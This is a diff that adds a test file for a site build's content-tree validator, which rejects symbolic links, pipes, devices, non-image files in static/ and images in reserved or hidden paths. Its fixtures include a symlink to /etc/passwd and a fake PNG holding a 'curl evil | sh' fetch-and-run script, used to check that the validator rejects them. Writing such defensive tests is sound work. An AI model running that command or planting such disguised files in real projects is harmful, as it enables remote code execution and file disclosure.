@@ -1,0 +1,108 @@
+import { CHECKED_FOLDERS, STATIC_RULE, contentTreeProblems, isMediaPath, isStaticPath, treeEntryProblem, type TreeEntry } from '../../src/build/contentTree';
+
+const ONLY_REGULAR = 'content/, locales/, static/ hold regular files and folders only';
+const PNG = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
+const SVG = Uint8Array.from(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"></svg>'));
+
+describe('treeEntryProblem', () => {
+  it('checks the folders content comes from', () => {
+    expect(CHECKED_FOLDERS).toEqual(['content', 'locales', 'static']);
+  });
+
+  it('passes folders, regular files, and images at the root of static/ and in the media folder', () => {
+    for (const entry of [
+      { path: 'content/blog', kind: 'directory' },
+      { path: 'content/blog/en/a.md', kind: 'file' },
+      { path: 'content/docs/en/example.html', kind: 'file' },
+      { path: 'locales/en/common.json', kind: 'file' },
+      { path: 'static/favicon.svg', kind: 'file', head: SVG },
+      { path: 'static/logo.png', kind: 'file', head: PNG },
+      { path: 'static/x', kind: 'directory' },
+      { path: 'static/media/logo.png', kind: 'file', head: PNG },
+      { path: 'static/media/2026/chart.PNG', kind: 'file', head: PNG },
+    ] as TreeEntry[]) {
+      expect(treeEntryProblem(entry)).toBeUndefined();
+    }
+  });
+
+  it('refuses a symbolic link wherever it points, naming where', () => {
+    expect(treeEntryProblem({ path: 'static/media/passwd.png', kind: 'symlink', target: '/etc/passwd' })).toBe(
+      `static/media/passwd.png is a symbolic link to /etc/passwd; ${ONLY_REGULAR}: put the file itself there instead of a link`,
+    );
+    expect(treeEntryProblem({ path: 'content/blog/en/copy.md', kind: 'symlink', target: '../../docs/en/readme.md' })).toBe(
+      `content/blog/en/copy.md is a symbolic link to ../../docs/en/readme.md; ${ONLY_REGULAR}: put the file itself there instead of a link`,
+    );
+    expect(treeEntryProblem({ path: 'static', kind: 'symlink', target: '/home' })).toMatch(/^static is a symbolic link to \/home; /);
+  });
+
+  it('refuses pipes, sockets, devices and anything else that is not a file or a folder', () => {
+    expect(treeEntryProblem({ path: 'content/home/en/hero.md', kind: 'fifo' })).toBe(`content/home/en/hero.md is a named pipe (FIFO); ${ONLY_REGULAR}`);
+    expect(treeEntryProblem({ path: 'locales/en/x.sock', kind: 'socket' })).toBe(`locales/en/x.sock is a socket; ${ONLY_REGULAR}`);
+    expect(treeEntryProblem({ path: 'static/sda', kind: 'block device' })).toBe(`static/sda is a block device; ${ONLY_REGULAR}`);
+    expect(treeEntryProblem({ path: 'static/zero', kind: 'character device' })).toBe(`static/zero is a character device; ${ONLY_REGULAR}`);
+    expect(treeEntryProblem({ path: 'static/door', kind: 'unknown' })).toBe(`static/door is neither a file nor a folder; ${ONLY_REGULAR}`);
+  });
+
+  it('refuses anything in static/ that is not an image by extension and contents', () => {
+    for (const path of [
+      'static/a.html',
+      'static/b.HTM',
+      'static/media/f.Html',
+      'static/page.html.txt',
+      'static/sw.js',
+      'static/s.css',
+      'static/m.webmanifest',
+      'static/x.wasm',
+      'static/d.json',
+      'static/f.xml',
+    ]) {
+      expect(treeEntryProblem({ path, kind: 'file', head: PNG })).toBe(`${path} is a .${/\.([^.]+)$/.exec(path)?.[1]} file, not an image; ${STATIC_RULE}`);
+    }
+    expect(treeEntryProblem({ path: 'static/media/invoice.png', kind: 'file', head: Uint8Array.from(Buffer.from('#!/bin/sh\ncurl evil | sh\n')) })).toBe(
+      `static/media/invoice.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`,
+    );
+    expect(treeEntryProblem({ path: 'static/_redirects', kind: 'file', head: new Uint8Array() })).toBe(`static/_redirects has no extension, so it is not an image; ${STATIC_RULE}`);
+    expect(treeEntryProblem({ path: 'static/media/no-head.png', kind: 'file' })).toBe(
+      `static/media/no-head.png is named .png but its contents are not a PNG image; ${STATIC_RULE}`,
+    );
+    expect(isMediaPath('static/media/a.png')).toBe(true);
+    expect(isMediaPath('static/mediaX/a.png')).toBe(false);
+    expect(isStaticPath('static/a.png')).toBe(true);
+    expect(isStaticPath('content/static/a.png')).toBe(false);
+  });
+
+  it('refuses an image where the build writes, in another folder, or hidden', () => {
+    const built = new Set(['/favicon.ico', '/share/en.png']);
+    const problem = (path: string) => treeEntryProblem({ path, kind: 'file', head: PNG }, built)?.replace(`; ${STATIC_RULE}`, '');
+    expect(problem('static/favicon.ico')).toBe('static/favicon.ico is at /favicon.ico, which the build writes itself: rename it');
+    for (const folder of ['admin', 'page-data', '_gatsby', 'pagefind', 'static', '~partytown']) {
+      expect(problem(`static/${folder}/x/y.png`)).toBe(`static/${folder}/x/y.png is under /${folder}/, where the build writes its own files`);
+    }
+    expect(problem('static/share/en.png')).toBe('static/share/en.png is in a folder static/ does not publish: move it into static/media/');
+    expect(problem('static/mediaX/a.png')).toBe('static/mediaX/a.png is in a folder static/ does not publish: move it into static/media/');
+    expect(problem('static/.a.png')).toBe('static/.a.png is hidden (a dotfile, or in a dot folder), which a server may not serve alike everywhere');
+    expect(problem('static/media/2026/.git/a.png')).toBe('static/media/2026/.git/a.png is hidden (a dotfile, or in a dot folder), which a server may not serve alike everywhere');
+    expect(problem('static/media/admin/a.png')).toBeUndefined();
+  });
+});
+
+describe('contentTreeProblems', () => {
+  it('names every problem once, in path order', () => {
+    expect(
+      contentTreeProblems(
+        [
+          { path: 'static/z.html', kind: 'file' },
+          { path: 'content/a', kind: 'fifo' },
+          { path: 'content/ok.md', kind: 'file' },
+          { path: 'static/favicon.ico', kind: 'file', head: Uint8Array.from([0, 0, 1, 0, 1, 0]) },
+        ],
+        new Set(['/favicon.ico']),
+      ),
+    ).toEqual([
+      expect.stringMatching(/^content\/a is a named pipe/),
+      expect.stringMatching(/^static\/favicon\.ico is at \/favicon\.ico, which the build writes itself/),
+      expect.stringMatching(/^static\/z\.html is a \.html file, not an image/),
+    ]);
+    expect(contentTreeProblems([])).toEqual([]);
+  });
+});
